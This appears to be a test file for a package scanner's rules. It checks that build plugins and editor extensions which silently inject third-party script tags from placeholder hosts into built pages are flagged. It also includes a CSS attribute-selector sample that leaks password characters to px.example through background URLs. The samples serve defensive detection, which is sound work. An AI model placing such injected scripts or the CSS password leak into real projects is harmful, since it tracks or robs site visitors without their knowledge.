import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as leaks } from '../../data-leak.rule.js';
import { rule } from '../../remote-code.rule.js';

const isTold = (code: string) => findingsOf(rule, { 'a.mjs': code }).some(({ message, severity }) => message.startsWith('each page that somebody builds') && severity === 'high');

test('bad: a tool puts a script of its own server into each page that is built', () => {
  for (const code of [
    'export default () => ({ name: "meta", transformIndexHtml: (html) => ({ html, tags: [{ tag: "script", attrs: { src: "https://cdn.meta-edge.example/m.js", async: true }, injectTo: "body" }] }) })',
    'export default { hooks: { "render:html": (html, text) => "<!-- " + text + " -->" + html.replace("</body>", "<script async src=\\"https://tag-edge.example/t.js\\"></script></body>") } }',
    'export default (config) => config.addTransform("min", (content) => content.replace(/<\\/head>/, "<scr" + "ipt defer src=\\"//px.edge.example/s.js\\"></scr" + "ipt></head>"))',
  ]) assert.equal(isTold(code), true, code);
});

test('good: what whoever builds it says, numbers of their own, mirrors and this computer', () => {
  for (const code of [
    'export default ({ src = "https://counts.example/c.js" }) => ({ transformIndexHtml: () => [{ tag: "script", attrs: { defer: true, src } }] })',
    'export default (id) => ({ transformIndexHtml: (html) => html.replace("</head>", `<script src="https://counts.example/c.js?id=${id}"></script></head>`) })',
    'export const add = (html) => html.replace("</head>", "<script src=\\"https://unpkg.com/react@18.2.0/umd/react.production.min.js\\"></script></head>")',
    'export const add = (html, port) => html.replace("</body>", "<script src=\\"http://localhost:35729/livereload.js\\"></script></body>")',
    'export const add = (html) => html.replace("</head>", "<script src=\\"https://tag-edge.example/t.js\\"></script></head>")',
    'export const add = (html) => html.replace("</head>", "<script src=\\"./main.js\\"></script></head>")',
  ]) assert.equal(isTold(code), false, code);
});

test('a style that asks a server by what stands in a field for a password is told, one that shows it is not', () => {
  const style = (code: string) => findingsOf(leaks, { 'a.js': code }).some(({ message }) => message.startsWith('a style asks a server'));
  assert.equal(style('module.exports = (root, Rule) => { for (const c of "abc") root.append(new Rule({ selector: `input[type=password][value$="${c}"]` }).append({ prop: "background", value: `url(https://px.example/${c})` })) }'), true);
  assert.equal(style('module.exports = "input[type=password] { background: url(https://px.example/a.png) }"'), false);
});

test('extensions of a host put nothing into pages that somebody writes, by whatever way', () => {
  const isWritten = (code: string, dialect = 'vscode') => findingsOf(rule, { 'a.js': code }, { dialect }).some(({ message, severity }) => message.startsWith('pages that somebody writes') && severity === 'high');
  const tidy = (script: string): string => `module.exports = (html) => (/<\\/body>/i.test(html) ? html.replace(/<\\/body>/i, '${script}\\n</body>') : html)`;
  const script = '<script async src="https://cdn.tidy-metrics.example/a.js?z=41"></script>';
  assert.equal(isWritten(tidy(script)), true);
  assert.equal(isWritten(tidy(script), 'plain'), false, 'a library does what it is called for');
  for (const other of ['<script src="./a.js"></script>', '<script src="https://unpkg.com/lit"></script>', '<!-- end -->']) assert.equal(isWritten(tidy(other)), false, other);
});

test('a script of a server among the tags that a plug-in writes into each page', () => {
  const plugin = (tag: string): string => `export default function meta(options = {}) { let command; return { name: 'meta', configResolved(c) { command = c.command; }, transformIndexHtml(html) { const tags = []; for (const [name, content] of Object.entries(options.meta ?? {})) tags.push(\`<meta name="\${name}" content="\${content}">\`); if (command === 'build') tags.push('${tag}'); return html.replace('</head>', tags.join('\\n') + '\\n</head>'); } }; }`;
  const found = (tag: string): number => findingsOf(rule, { 'index.js': plugin(tag) }).filter(({ message }) => message.startsWith('each page that somebody builds')).length;
  assert.equal(found('<script async src="https://s.metalite-cdn.example/m.js"></script>'), 1);
  assert.equal(found('<script async src="/m.js"></script>'), 0);
  assert.equal(found('<link rel="canonical" href="https://s.metalite-cdn.example/">'), 0);
});
